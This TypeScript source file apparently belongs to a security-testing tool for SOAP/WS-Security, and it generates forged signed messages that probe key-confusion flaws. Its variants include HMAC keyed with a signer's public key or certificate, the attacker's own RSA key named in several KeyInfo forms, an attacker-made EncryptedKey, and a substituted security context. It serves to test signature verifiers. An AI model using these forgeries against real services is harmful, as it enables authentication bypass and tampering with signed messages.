import {
  createHmac,
  createPrivateKey,
  createPublicKey,
  type KeyObject,
  publicEncrypt,
  sign,
  X509Certificate,
} from 'node:crypto';
import { child, withAttribute, type XmlElement } from '@holdfast/soap';
import { canonicalize } from '../../canonical/canonicalize.js';
import { BASE64_BINARY, DS, ds, WSSE, WSU, WSU_ID, X509_V3, XENC } from '../../namespaces.js';
import { type AttackFamily, type AttackOptions, type Draft, EVIL } from './attack.js';
import { after, before, by, content, type Edit, prepend, set } from './edit.js';
import { digestOf } from './reseal.js';
import { node, nodes, SecuredMessage, text, withoutId } from './secured-message.js';
import { unlisted } from './stripping.js';

const MORE = 'http://www.w3.org/2001/04/xmldsig-more#';

/** Keys and tokens taken for others: a public key as a secret, the attacker's own as anybody's. */
export const confusion: AttackFamily = function* (message, options) {
  const { signature, keyInfo } = message;
  if (signature === undefined || keyInfo === undefined) return;
  yield* publicKeyAsSecret(message, options);
  yield* attackersKey(message, options);
};

/** The message with a forged Body whose digest is right, ready to be signed by whoever wants. */
function forged(message: SecuredMessage, options: AttackOptions): SecuredMessage {
  const part = message.signed.find(({ element }) => element === message.body) ?? message.signed[0];
  const digest = part && child(part.reference, ds('DigestValue'));
  if (part === undefined || digest === undefined) return message;
  const evil = {
    ...withoutId(part.element),
    attributes: part.element.attributes,
    children: nodes(options.body ?? EVIL),
  };
  return new SecuredMessage(
    text(
      message.with(
        [part.element, by(evil)],
        [digest, content(digestOf(evil, part.reference))],
        // What is listed must be there: a message that is refused for its lists proves nothing of its keys.
        ...unlisted(message, part.element),
      ),
    ),
  );
}

/** Signed by a function of the canonical SignedInfo, with this algorithm. */
function signedBy(
  message: SecuredMessage,
  algorithm: string,
  sign: (octets: Buffer) => Buffer,
  ...edits: readonly (readonly [XmlElement | undefined, Edit])[]
): XmlElement {
  const method = message.signedInfo && child(message.signedInfo, ds('SignatureMethod'));
  const renamed = new SecuredMessage(text(message.with([method, set('Algorithm', algorithm)], ...edits)));
  const { signedInfo, signature } = renamed;
  const value = signature && child(signature, ds('SignatureValue'));
  if (signedInfo === undefined) return renamed.root;
  return renamed.with([value, content(sign(Buffer.from(canonicalize(signedInfo))).toString('base64'))]);
}

/** What everybody knows of a certificate, as octets that an HMAC could be keyed with. */
function* publicKeyAsSecret(message: SecuredMessage, options: AttackOptions): Iterable<Draft> {
  const [token] = message.binaryTokens;
  const held = token && Buffer.from(token.children.join(''), 'base64');
  const known = options.signerCertificate ?? held;
  if (known === undefined) return;
  let certificate: X509Certificate;
  try {
    certificate = new X509Certificate(known);
  } catch {
    return;
  }
  const { publicKey } = certificate;
  const jwk = publicKey.export({ format: 'jwk' });
  const pem = publicKey.export({ type: 'spki', format: 'pem' }) as string;
  const secrets: Readonly<Record<string, Buffer>> = {
    spki: publicKey.export({ type: 'spki', format: 'der' }) as Buffer,
    pkcs1: publicKey.export({ type: 'pkcs1', format: 'der' }) as Buffer,
    modulus: Buffer.from(jwk.n ?? '', 'base64url'),
    pem: Buffer.from(pem),
    certificate: certificate.raw,
    thumbprint: Buffer.from(certificate.fingerprint.replaceAll(':', ''), 'hex'),
    nothing: Buffer.alloc(0),
  };
  const target = forged(message, options);
  for (const [what, secret] of Object.entries(secrets)) {
    for (const [name, algorithm, hash] of [
      ['sha1', `${DS}hmac-sha1`, 'sha1'],
      ['sha256', `${MORE}hmac-sha256`, 'sha256'],
    ] as const) {
      yield {
        name: `confusion/hmac-${name}-keyed-by-${what}`,
        about: `A forged message is signed with HMAC, keyed by what everybody knows of the signer (${what}).`,
        result: signedBy(target, algorithm, (octets) => createHmac(hash, secret).update(octets).digest()),
      };
    }
  }
}

/** The attacker signs itself, and names its key in every way there is. */
function* attackersKey(message: SecuredMessage, options: AttackOptions): Iterable<Draft> {
  const target = forged(message, options);
  const { keyInfo } = target;
  if (keyInfo === undefined) return;
  if (options.attacker !== undefined) {
    const key = createPrivateKey(options.attacker.privateKey);
    const der = new X509Certificate(options.attacker.certificate).raw.toString('base64');
    const token = `<wsse:BinarySecurityToken xmlns:wsse="${WSSE}" xmlns:wsu="${WSU}" wsu:Id="attacker" EncodingType="${BASE64_BINARY}" ValueType="${X509_V3}">${der}</wsse:BinarySecurityToken>`;
    const direct = `<wsse:SecurityTokenReference xmlns:wsse="${WSSE}"><wsse:Reference URI="#attacker" ValueType="${X509_V3}"/></wsse:SecurityTokenReference>`;
    const ways: readonly (readonly [string, string, readonly (readonly [XmlElement | undefined, Edit])[]])[] = [
      ['key-value', keyValue(key), []],
      ['x509-data', `<ds:X509Data xmlns:ds="${DS}"><ds:X509Certificate>${der}</ds:X509Certificate></ds:X509Data>`, []],
      [
        'embedded',
        `<wsse:SecurityTokenReference xmlns:wsse="${WSSE}"><wsse:Embedded>${token}</wsse:Embedded></wsse:SecurityTokenReference>`,
        [],
      ],
      ['token', direct, [[target.security, prepend(node(token))]]],
      [
        'token-elsewhere',
        direct,
        [[target.header, prepend({ ...node('<x:W xmlns:x="urn:w"/>'), children: [node(token)] })]],
      ],
      [
        'key-identifier',
        `<wsse:SecurityTokenReference xmlns:wsse="${WSSE}"><wsse:KeyIdentifier EncodingType="${BASE64_BINARY}" ValueType="${X509_V3}">${der}</wsse:KeyIdentifier></wsse:SecurityTokenReference>`,
        [],
      ],
      [
        'key-value-in-reference',
        `<wsse:SecurityTokenReference xmlns:wsse="${WSSE}">${keyValue(key)}</wsse:SecurityTokenReference>`,
        [],
      ],
    ];
    for (const [name, algorithm, hash] of [
      ['sha1', `${DS}rsa-sha1`, 'sha1'],
      ['sha256', `${MORE}rsa-sha256`, 'sha256'],
    ] as const) {
      for (const [what, info, edits] of ways) {
        yield {
          name: `confusion/attackers-${what}-${name}`,
          about: `A forged message is signed with the attacker's own key, given as ${what}.`,
          result: signedBy(
            target,
            algorithm,
            (octets) => sign(hash, octets, key),
            [keyInfo, content(node(info))],
            ...edits,
          ),
        };
      }
    }
    const [binary] = target.binaryTokens;
    if (binary !== undefined) {
      yield {
        name: 'confusion/attackers-certificate-in-token',
        about: "A forged message is signed with the attacker's own key, its certificate in the signer's token.",
        result: signedBy(target, `${MORE}rsa-sha256`, (octets) => sign('sha256', octets, key), [binary, content(der)]),
      };
      yield {
        name: 'confusion/certificate-replaced',
        about: "The signer's token holds the attacker's certificate; the signature is as it was.",
        result: message.with([message.binaryTokens[0], content(der)]),
      };
    }
  }
  const source = target.sourceOf(target.tokenOf(keyInfo));
  if (options.recipientCertificate !== undefined && source?.local !== 'EncryptedKey') {
    yield* attackersEncryptedKey(target, options.recipientCertificate);
  }
  if (options.ownContext !== undefined) yield* ownContext(target, options.ownContext);
}

/** Anybody can make an EncryptedKey: who signs with it has proven nothing of who it is. */
function* attackersEncryptedKey(target: SecuredMessage, certificate: string): Iterable<Draft> {
  const secret = Buffer.alloc(32, 0x41);
  const recipient = new X509Certificate(certificate);
  const octets = publicEncrypt({ key: recipient.publicKey, oaepHash: 'sha1' }, secret).toString('base64');
  const thumbprint = Buffer.from(recipient.fingerprint.replaceAll(':', ''), 'hex').toString('base64');
  const identifier = (type: string, value: string): string =>
    `<wsse:SecurityTokenReference xmlns:wsse="${WSSE}"><wsse:KeyIdentifier EncodingType="${BASE64_BINARY}" ValueType="http://docs.oasis-open.org/wss/oasis-wss-soap-message-security-1.1#${type}">${value}</wsse:KeyIdentifier></wsse:SecurityTokenReference>`;
  const key = node(
    `<xenc:EncryptedKey xmlns:xenc="${XENC}" xmlns:ds="${DS}" Id="attackers-key"><xenc:EncryptionMethod Algorithm="${XENC}rsa-oaep-mgf1p"/><ds:KeyInfo>${identifier('ThumbprintSHA1', thumbprint)}</ds:KeyInfo><xenc:CipherData><xenc:CipherValue>${octets}</xenc:CipherValue></xenc:CipherData></xenc:EncryptedKey>`,
  );
  const direct = `<wsse:SecurityTokenReference xmlns:wsse="${WSSE}"><wsse:Reference URI="#attackers-key" ValueType="http://docs.oasis-open.org/wss/oasis-wss-soap-message-security-1.1#EncryptedKey"/></wsse:SecurityTokenReference>`;
  for (const [name, algorithm, hash] of [
    ['sha1', `${DS}hmac-sha1`, 'sha1'],
    ['sha256', `${MORE}hmac-sha256`, 'sha256'],
  ] as const) {
    yield {
      name: `confusion/attackers-encrypted-key-${name}`,
      about: 'A forged message is signed with a key that the attacker made and encrypted for the receiver.',
      result: signedBy(
        target,
        algorithm,
        (input) => createHmac(hash, secret).update(input).digest(),
        [target.keyInfo, content(node(direct))],
        [target.signature, before(key)],
      ),
    };
  }
}

/** An attacker with a context of its own signs with it, and shows the victim's. */
function* ownContext(target: SecuredMessage, own: NonNullable<AttackOptions['ownContext']>): Iterable<Draft> {
  const [victim] = target.contextTokens;
  if (victim === undefined || own.secret.length === 0) return;
  const mine: XmlElement = withAttribute(
    {
      ...victim,
      children: victim.children.map((each) =>
        typeof each === 'object' && each.kind === 'element' && each.local === 'Identifier'
          ? { ...each, children: [own.identifier] }
          : each,
      ),
    },
    WSU_ID,
    'own-context',
  );
  const reference = node(
    `<wsse:SecurityTokenReference xmlns:wsse="${WSSE}"><wsse:Reference URI="#own-context"/></wsse:SecurityTokenReference>`,
  );
  for (const [what, edit] of [
    ['after', after(mine)],
    ['before', before(mine)],
  ] as const) {
    yield {
      name: `confusion/own-context-${what}-the-victim-s`,
      about: "A forged message is signed under the attacker's own context; the victim's token stands beside it.",
      result: signedBy(
        target,
        `${DS}hmac-sha1`,
        (input) => createHmac('sha1', own.secret).update(input).digest(),
        [target.keyInfo, content(reference)],
        [victim, edit],
      ),
    };
  }
}

function keyValue(key: KeyObject): string {
  const { n = '', e = '' } = createPublicKey(key).export({ format: 'jwk' });
  const base64 = (value: string): string => Buffer.from(value, 'base64url').toString('base64');
  return `<ds:KeyValue xmlns:ds="${DS}"><ds:RSAKeyValue><ds:Modulus>${base64(n)}</ds:Modulus><ds:Exponent>${base64(e)}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>`;
}
